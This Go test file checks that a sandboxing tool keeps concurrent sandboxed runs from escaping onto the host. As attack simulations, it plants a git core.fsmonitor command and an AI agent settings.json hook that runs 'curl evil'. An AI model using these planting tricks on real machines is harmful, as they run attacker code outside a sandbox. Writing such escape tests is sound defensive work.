package bwrap_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/heavy-duty/box/internal/boxtest"
	"github.com/heavy-duty/box/internal/testenv"
)

// Two box runs at once on one tree (issue 19): each sandbox creates files the test waits
// for, and waits (bounded) for files the test creates, so the order is fixed without
// timing.

// concurrentWorld is a world whose runs share the tree at once: the test build with the
// launch guard off (launchguard.go), which otherwise makes a run wait until no other
// sandbox is alive on the tree; these tests prove the layers behind it (the audit's
// baseline, the tree's reach). With BOX_TEST_OFF=NAME that protection is off too
// (audit-concurrent, trust), to show the test failing without the fix.
func concurrentWorld(t *testing.T) *world {
	w := newWorld(t)
	off := "launch-guard"
	if o := os.Getenv("BOX_TEST_OFF"); o != "" {
		off += "," + o
	}
	w.withProtectionOff(t, off)
	return w
}

// guardedWorld is a world with the launch guard on; with BOX_TEST_OFF=NAME it runs the
// test build with that protection off.
func guardedWorld(t *testing.T) *world {
	w := newWorld(t)
	if off := os.Getenv("BOX_TEST_OFF"); off != "" {
		w.withProtectionOff(t, off)
	}
	return w
}

// bg is a box run going on in the background.
type bg struct {
	c              *exec.Cmd
	done           chan error
	stdout, stderr *boxtest.Buffer // read while the command writes
}

func (w *world) startRun(script string, extra ...string) *bg {
	w.t.Helper()
	return w.startRunIn("", script, extra...)
}

// startRunIn is startRun in dir ("": the project).
func (w *world) startRunIn(dir, script string, extra ...string) *bg {
	w.t.Helper()
	c := w.cmd(append(append([]string{"run", "-y"}, extra...), "--", "sh", "-c", script)...)
	if dir != "" {
		c.Dir = dir
	}
	return w.startCmd(c)
}

// startCmd starts c in the background, its output kept, and kills it when the test ends.
func (w *world) startCmd(c *exec.Cmd) *bg {
	w.t.Helper()
	b := &bg{c: c, done: make(chan error, 1), stdout: &boxtest.Buffer{}, stderr: &boxtest.Buffer{}}
	c.Stdout, c.Stderr = b.stdout, b.stderr
	if err := c.Start(); err != nil {
		w.t.Fatal(err)
	}
	go func() { b.done <- c.Wait() }()
	w.t.Cleanup(func() { c.Process.Kill() })
	return b
}

// shellIn is the operator's shell, already in dir (as cd left it, before any sandbox
// runs), as the test user: it runs script once the file gate appears ($BOX is box).
func (w *world) shellIn(dir, gate, script string) *bg {
	w.t.Helper()
	c := exec.Command("sh", "-c", `while [ ! -e "$GATE" ]; do sleep 0.02; done; `+script)
	c.Dir = dir
	c.Env = append(append([]string{}, w.env...), "PWD="+dir, "GATE="+gate, "BOX="+w.box)
	c.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(w.uid), Gid: uint32(w.gid)}}
	return w.startCmd(c)
}

func (b *bg) wait() int {
	<-b.done
	return b.c.ProcessState.ExitCode()
}

// waitFor is a sandbox's bounded wait for name in its working directory (100 s).
func waitFor(name string) string {
	return `i=0; while [ ! -e ` + name + ` ]; do i=$((i+1)); [ $i -gt 2000 ] && exit 97; sleep 0.05; done; `
}

// B1: run B plants sub/.git with an fsmonitor, run A starts (its own snapshot would hold
// the plant), B moves the repository to sub/stash (its own audit catches that), A
// re-creates sub/.git with the same fsmonitor. A's audit must judge against the tree's
// baseline, not its own snapshot: the host's git status in sub runs nothing.
func TestConcurrentRunBeforeHoldsNoOtherSandboxPlant(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := concurrentWorld(t)
	marks := w.markerDir()
	plantRepo := `git init -q sub && git -C sub config core.fsmonitor "touch ` + marks + `/ran; false"; `
	b := w.startRun(plantRepo + `touch .b1; ` + waitFor(".a1") + `mv sub/.git sub/stash; echo b-done`)
	waitFile(t, filepath.Join(w.proj, ".b1"), b.done, b.stderr)
	a := w.startRun(`touch .a1; ` + waitFor(".a-go") + plantRepo + `echo a-done`)
	waitFile(t, filepath.Join(w.proj, ".a1"), a.done, a.stderr)
	if code := b.wait(); code != 0 || !strings.Contains(b.stdout.String(), "b-done") {
		t.Fatalf("run B: %d %q\n%s", code, b.stdout, b.stderr)
	}
	w.write(filepath.Join(w.proj, ".a-go"), "")
	code := a.wait()
	if !strings.Contains(a.stdout.String(), "a-done") {
		t.Fatalf("run A: %d %q\n%s", code, a.stdout, a.stderr)
	}
	if !strings.Contains(a.stderr.String(), "sub/.git: new git repository") {
		t.Errorf("run A's audit did not judge the repository its sandbox made:\n%s", a.stderr)
	}
	w.hostGit(filepath.Join(w.proj, "sub"), "status")
	if m := w.marks(marks); len(m) != 0 {
		t.Errorf("the host's git status in sub ran the planted fsmonitor (%v)", m)
	}
}

// W2: a run's audit never quarantines the placeholder box placed for another run still
// going (a .git/commondir holding "."), and the last run out removes it.
func TestConcurrentRunPlaceholderNotAFinding(t *testing.T) {
	testenv.RequireTool(t, "git")
	w := concurrentWorld(t)
	if out, err := w.hostGit(w.proj, "init", "-q"); err != nil {
		t.Fatal(out)
	}
	cd := filepath.Join(w.proj, ".git", "commondir")
	b := w.startRun(`touch .b1; ` + waitFor(".b-go") + `echo b-done`)
	waitFile(t, filepath.Join(w.proj, ".b1"), b.done, b.stderr)
	if got, err := os.ReadFile(cd); err != nil || string(got) != ".\n" {
		t.Fatalf("no placeholder commondir during the run (%q %v): the test proves nothing", got, err)
	}
	a := w.startRun(`touch .a1; ` + waitFor(".a-go") + `echo a-done`)
	waitFile(t, filepath.Join(w.proj, ".a1"), a.done, a.stderr)
	w.write(filepath.Join(w.proj, ".b-go"), "")
	if code := b.wait(); code != 0 || strings.Contains(b.stderr.String(), "box: audit:") {
		t.Errorf("run B (ending while A runs): %d\n%s", code, b.stderr)
	}
	if got, err := os.ReadFile(cd); err != nil || string(got) != ".\n" {
		t.Errorf("the placeholder of the run still going was moved: %q %v", got, err)
	}
	w.write(filepath.Join(w.proj, ".a-go"), "")
	if code := a.wait(); code != 0 || strings.Contains(a.stderr.String(), "box: audit:") {
		t.Errorf("run A (last out): %d\n%s", code, a.stderr)
	}
	if _, err := os.Lstat(cd); !os.IsNotExist(err) {
		t.Errorf("the last run out left the placeholder: %v", err)
	}
	if q, _ := os.ReadDir(filepath.Join(w.home, ".local/share/box/quarantine")); len(q) != 0 {
		t.Errorf("something was quarantined: %v", q)
	}
}

// W1: a narrower run started while a wider one runs on the same instance directory is
// refused (it would write hooks the wider run then reads) and rewrites no record.
func TestConcurrentRunNarrowerRefusedDuringWider(t *testing.T) {
	w := concurrentWorld(t)
	wide := []string{"--network", "full", "--env", "GITHUB_TOKEN"}
	wr := w.startRun(`touch .w1; `+waitFor(".w-go")+`cat ~/.claude/settings.json 2>/dev/null; echo w-done`, wide...)
	waitFile(t, filepath.Join(w.proj, ".w1"), wr.done, wr.stderr)
	r := w.sh(`mkdir -p ~/.claude && printf '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl evil"}]}]}}' > ~/.claude/settings.json; echo planted`)
	if r.code == 0 || strings.Contains(r.stdout, "planted") || !strings.Contains(r.stderr, "another run") || !strings.Contains(r.stderr, "box: hint:") {
		t.Errorf("the narrower run during the wider one: %d %q\n%s", r.code, r.stdout, r.stderr)
	}
	// The same reach may join.
	if r := w.sh(`echo same`, wide...); r.code != 0 || !strings.Contains(r.stdout, "same") {
		t.Errorf("a run of the same reach: %d %q\n%s", r.code, r.stdout, r.stderr)
	}
	w.write(filepath.Join(w.proj, ".w-go"), "")
	if code := wr.wait(); code != 0 || strings.Contains(wr.stdout.String(), "curl evil") || !strings.Contains(wr.stdout.String(), "w-done") {
		t.Errorf("the wider run: %d %q\n%s", code, wr.stdout, wr.stderr)
	}
	recs, _ := filepath.Glob(filepath.Join(w.home, ".local/share/box/instances/*/box-reach.json"))
	for _, rec := range recs {
		if b, _ := os.ReadFile(rec); !strings.Contains(string(b), `"full"`) {
			t.Errorf("the record was rewritten by the refused run: %s", b)
		}
	}
	if len(recs) == 0 {
		t.Error("no record")
	}
}
